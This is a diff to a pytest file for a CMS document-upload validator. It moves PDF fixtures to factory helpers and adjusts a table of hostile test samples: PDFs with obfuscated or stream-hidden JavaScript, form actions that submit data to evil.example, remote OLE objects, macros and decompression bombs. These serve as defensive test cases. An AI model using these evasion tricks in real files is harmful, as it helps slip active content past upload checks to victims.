@@ -6,9 +6,10 @@ import pytest
 
 from cms.files.fields import safe_name
 from cms.files.papers import KINDS, BadPaper, check_paper
+from tests.factories.pdfs import a_pdf, a_stream, locked_pdf
 
 pytestmark = pytest.mark.unit
-PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF"
+PDF = a_pdf()
 WORD = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}
 SHEET = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>"}
 
@@ -33,13 +34,13 @@ def check(name, content):
 
 def acting(told):
     """A PDF with an object that does something."""
-    return PDF + b"2 0 obj\n<<%s>>\nendobj" % told
+    return a_pdf(b"<<%s>>" % told)
 
 
 def packed(told, *, kind=b"/Type /ObjStm", filters=b"/Filter /FlateDecode", body=None):
-    """A PDF whose objects stand in a packed stream."""
-    objects = zlib.compress(b"2 0 " + told) if body is None else body
-    return PDF + b"3 0 obj\n<<%s /N 1 %s>>\nstream\n%s\nendstream\nendobj" % (kind, filters, objects)
+    """A PDF with an object that stands in a packed stream."""
+    objects = zlib.compress(b"9 0 " + told) if body is None else body
+    return a_pdf(a_stream(objects, b"%s /N 1 /First 4 %s" % (kind, filters)))
 
 
 def related(kind, outside=True, to="https://evil.example"):
@@ -66,7 +67,7 @@ HOSTILE = {
     "macros-by-name": ("a.docm", office(WORD), "kind"),
     "large": ("a.pdf", PDF + b"0" * 10_000_000, "bytes"),
     "page-as-pdf": ("a.pdf", b"<html><script>alert(1)</script>", "broken"),
-    "script-in-pdf": ("a.pdf", PDF + b"/JavaScript", "active"),
+    "script-in-pdf": ("a.pdf", a_pdf(catalog=b"/OpenAction" + SCRIPT), "active"),
     "bomb": ("a.docx", office({**WORD, "word/media/a.bin": bytes(30_000_000)}), "bomb"),
     "many-parts": ("a.docx", office(WORD | {f"word/{n}.xml": b"" for n in range(2_001)}), "bomb"),
     "macros": ("a.docx", office({**WORD, "word/vbaProject.bin": b"x"}), "active"),
@@ -82,15 +83,15 @@ HOSTILE = {
     "page-as-list": ("a.csv", b"<html>", "broken"),
     "script-spelled-out": ("a.pdf", acting(b"/S /J#61vaScript"), "active"),
     "script-by-its-short-name": ("a.pdf", acting(b"/J#53\n(app.alert(1))"), "active"),
-    "script-elsewhere": ("a.pdf", acting(b"/JS%\n12 0 R"), "active"),
+    "script-elsewhere": ("a.pdf", acting(b"/JS%\n3 0 R"), "active"),
     "script-in-a-packed-stream": ("a.pdf", packed(SCRIPT), "active"),
     "script-in-a-spelled-stream": ("a.pdf", packed(SCRIPT, kind=b"/Type /Obj#53tm"), "active"),
     "stream-packed-twice": ("a.pdf", packed(SCRIPT, filters=b"/Filter [/FlateDecode /LZW]"), "broken"),
     "stream-packed-somehow": ("a.pdf", packed(SCRIPT, filters=b"/Filter 9 0 R"), "broken"),
     "stream-that-is-none": ("a.pdf", packed(b"", body=b"zzz"), "broken"),
-    "stream-without-an-end": ("a.pdf", PDF + b"<</Type /ObjStm>>\nstream\n2 0 <<>>", "broken"),
+    "stream-without-an-end": ("a.pdf", a_pdf(b"<</Type /ObjStm /Length 9>>\nstream\n2 0 <<>>"), "broken"),
     "bomb-in-a-stream": ("a.pdf", packed(bytes(30_000_000)), "bomb"),
-    "locked": ("a.pdf", acting(b"/Encrypt 4 0 R"), "broken"),
+    "locked": ("a.pdf", locked_pdf("open", "secret"), "locked"),
     "form-that-is-sent": ("a.pdf", acting(b"/S /SubmitForm /F (https://evil.example)"), "active"),
     "another-file": ("a.pdf", acting(b"/S /GoToR /F (//evil.example/a)"), "active"),
     "object-from-outside": ("a.docx", related("oleObject", to="mhtml:https://evil.example!x"), "active"),
@@ -142,9 +143,10 @@ def test_hostile_document_is_refused_for_what_it_is(name, content, why):
         ("a.csv", b"nom;prix\nsafran;-3,5\n"),
         ("a.csv", b"nom,telephone\nAya,+212 (0)5 22-33\nBrahim,-\n"),
         ("a.pdf", packed(b"<</Type /Page>>")),
-        ("a.pdf", packed(b"", filters=b"", body=b"2 0 <</Type /Page>>")),
+        ("a.pdf", packed(b"", filters=b"", body=b"9 0 <</Type /Page>>")),
+        ("a.pdf", locked_pdf("", "secret")),
         ("a.pdf", acting(b"/S /URI /URI (https://moussem.example/js)")),
-        ("a.pdf", PDF + b"stream\n\x00/JS\x91\nendstream"),
+        ("a.pdf", a_pdf(a_stream(b"\x00/JS\x91"))),
         ("a.docx", related("hyperlink")),
         ("a.docx", related("image", outside=False, to="media/a.png")),
         ("a.docx", worded(FIELD % "PAGE" + "<w:t>DDE</w:t>")),
